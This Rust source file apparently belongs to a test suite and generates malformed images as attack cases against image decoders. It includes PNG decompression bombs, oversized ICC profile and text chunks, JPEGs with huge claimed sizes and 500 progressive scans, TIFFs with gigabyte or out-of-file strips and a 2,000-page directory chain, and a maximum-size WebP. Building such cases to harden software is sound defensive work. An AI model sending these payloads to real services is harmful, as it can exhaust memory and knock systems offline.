//! Pictures that are made to harm.

use super::Attack;
use super::deflate::{compressed, repeated};

pub(super) fn all() -> Vec<Attack> {
    let png = "image/png";
    let header = |width_px: u32, height_px: u32| {
        let sides = [width_px.to_be_bytes(), height_px.to_be_bytes()].concat();
        chunk(*b"IHDR", &[&sides[..], &[8, 2, 0, 0, 0]].concat())
    };
    let picture = |chunks: &[Vec<u8>]| {
        let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
        file.extend(chunks.concat());
        file.extend(chunk(*b"IEND", b""));
        file
    };
    // As much as the limits let through, and no data.
    let claim = picture(&[header(9_000, 9_000), chunk(*b"IDAT", &compressed(&[0; 64]))]);
    let huge = picture(&[
        header(30_000, 30_000),
        chunk(*b"IDAT", &compressed(&[0; 64])),
    ]);
    let bomb = picture(&[header(4, 4), chunk(*b"IDAT", &repeated(0, 2 << 30))]);
    let profile = [&b"p\0\0"[..], &repeated(0, 2 << 30)].concat();
    let profile = picture(&[
        header(4, 4),
        chunk(*b"iCCP", &profile),
        chunk(*b"IDAT", &compressed(&[0; 64])),
    ]);
    let text = [&b"t\0\0"[..], &repeated(b'x', 2 << 30)].concat();
    let text = picture(&[
        header(4, 4),
        chunk(*b"zTXt", &text),
        chunk(*b"IDAT", &compressed(&[0; 64])),
    ]);
    let list = [
        ("a PNG of 30,000 x 30,000 pixels", png, huge),
        ("a PNG as large as is allowed, of nothing", png, claim),
        ("a PNG with 2 GB of pixels too many", png, bomb),
        ("a PNG with a colour profile of 2 GB", png, profile),
        ("a PNG with 2 GB of text", png, text),
        (
            "a picture of 30,000 x 30,000 pixels in JPEG",
            "image/jpeg",
            jpeg_header(30_000, 30_000),
        ),
        (
            "a picture of 13,000 x 13,000 pixels in JPEG",
            "image/jpeg",
            jpeg_header(13_000, 13_000),
        ),
        (
            "a TIFF with strips of gigabytes",
            "image/tiff",
            tiff(12_000, u32::MAX),
        ),
        (
            "a TIFF of one strip outside the file",
            "image/tiff",
            tiff(60_000, 0x7fff_fff0),
        ),
        (
            "a TIFF whose pages chase each other",
            "image/tiff",
            tiff_chain(),
        ),
        ("a WebP of 16,383 x 16,383 pixels", "image/webp", webp()),
    ];
    list.into_iter()
        .map(|(name, media_type, bytes)| Attack {
            name,
            media_type,
            bytes,
        })
        .collect()
}

fn chunk(kind: [u8; 4], data: &[u8]) -> Vec<u8> {
    let body = [&kind[..], data].concat();
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            crc >> 1 ^ (0xedb8_8320 & (crc & 1).wrapping_neg())
        })
    };
    let check = !body.iter().fold(u32::MAX, step);
    let n_bytes = data.len() as u32;
    [&n_bytes.to_be_bytes()[..], &body, &check.to_be_bytes()].concat()
}

/// A progressive JPEG with many scans over as many pixels as it claims.
pub(super) fn jpeg_header(width_px: u16, height_px: u16) -> Vec<u8> {
    let mut jpeg = vec![0xff, 0xd8];
    let mut segment = |marker: u8, data: &[u8]| {
        jpeg.extend([0xff, marker]);
        jpeg.extend((data.len() as u16 + 2).to_be_bytes());
        jpeg.extend(data);
    };
    segment(0xdb, &[&[0][..], &[1; 64]].concat()); // Quantization.
    let [height, width] = [height_px, width_px].map(u16::to_be_bytes);
    let frame = [
        &[8][..],
        &height,
        &width,
        &[3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0],
    ];
    segment(0xc2, &frame.concat());
    // One code of one bit in each table.
    let codes = |table: u8| [&[table, 1][..], &[0; 15], &[0]].concat();
    segment(0xc4, &codes(0x00));
    segment(0xc4, &codes(0x10));
    for _ in 0..500 {
        segment(0xda, &[3, 1, 0, 2, 0, 3, 0, 0, 0, 0]);
    }
    jpeg.extend([0; 64]);
    jpeg.extend([0xff, 0xd9]);
    jpeg
}

/// A JPEG 2000 code stream without data.
pub(super) fn jpeg2000_header(width_px: u32, height_px: u32) -> Vec<u8> {
    let sides = [width_px, height_px, 0, 0, width_px, height_px, 0, 0].map(u32::to_be_bytes);
    let mut stream = vec![0xff, 0x4f, 0xff, 0x51, 0, 47, 0, 0];
    stream.extend(sides.concat());
    stream.extend([0, 3, 7, 1, 1, 7, 1, 1, 7, 1, 1]);
    stream.extend([0xff, 0x52, 0, 12, 0, 0, 0xff, 0xff, 0, 5, 4, 4, 0, 0]);
    stream.extend([0xff, 0x5c, 0, 19, 0x40]);
    stream.extend([0x40; 16]);
    stream.extend([
        0xff, 0x90, 0, 10, 0, 0, 0, 0, 0, 14, 0, 1, 0xff, 0x93, 0xff, 0xd9,
    ]);
    stream
}

/// A TIFF of so many gray pixels a side, whose strip has this length.
fn tiff(side_px: u32, strip_bytes: u32) -> Vec<u8> {
    let entries = [
        (256_u16, side_px),
        (257, side_px),
        (258, 8),
        (259, 32773), // PackBits.
        (262, 1),
        (273, 8),
        (278, side_px),
        (279, strip_bytes),
    ];
    directory(b"II*\0\x08\0\0\0".to_vec(), &entries, 0)
}

fn directory(mut file: Vec<u8>, entries: &[(u16, u32)], next: u32) -> Vec<u8> {
    file.extend((entries.len() as u16).to_le_bytes());
    for (tag, value) in entries {
        file.extend(tag.to_le_bytes());
        file.extend(4_u16.to_le_bytes());
        file.extend(1_u32.to_le_bytes());
        file.extend(value.to_le_bytes());
    }
    file.extend(next.to_le_bytes());
    file
}

/// 2,000 directories, each of which claims a large page.
fn tiff_chain() -> Vec<u8> {
    let mut file = b"II*\0\x08\0\0\0".to_vec();
    for _ in 0..2000 {
        let next = file.len() as u32 + 2 + 4 * 12 + 4;
        let entries = [(256, 10_000), (257, 10_000), (258, 8), (262, 1)];
        file = directory(file, &entries, next);
    }
    file
}

/// A lossless WebP of the largest size there is, without data.
fn webp() -> Vec<u8> {
    let bits: u32 = 0x3ffe | 0x3ffe << 14;
    let mut data = vec![0x2f];
    data.extend(bits.to_le_bytes());
    data.extend([0; 27]);
    let mut file = b"RIFF".to_vec();
    file.extend((data.len() as u32 + 12).to_le_bytes());
    file.extend(b"WEBPVP8L");
    file.extend((data.len() as u32).to_le_bytes());
    file.extend(data);
    file
}
